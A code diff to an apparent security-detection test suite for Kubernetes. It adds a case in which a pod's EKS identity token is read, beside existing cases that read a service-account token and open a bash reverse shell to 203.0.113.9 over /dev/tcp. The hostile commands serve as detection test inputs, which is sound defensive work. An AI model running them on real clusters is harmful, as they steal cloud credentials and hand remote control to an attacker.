@@ -25,6 +25,10 @@ export default defineAnomalousDeeds({
     fires: {
       'the token of the pod is read': () =>
         atFirst(shell('shop', 'web-0', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token')),
+      'the token is read by which a pod gets a role': () =>
+        atFirst(
+          shell('shop', 'web-0', 'cat /var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token'),
+        ),
       'a reverse shell is opened': () => atFirst(shell('shop', 'web-0', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1')),
       'the token of an application, used outside the cluster': () =>
         after(20, APPLICATION, shell('shop', 'db-0', 'sh', byThief('shop', 'web'))),
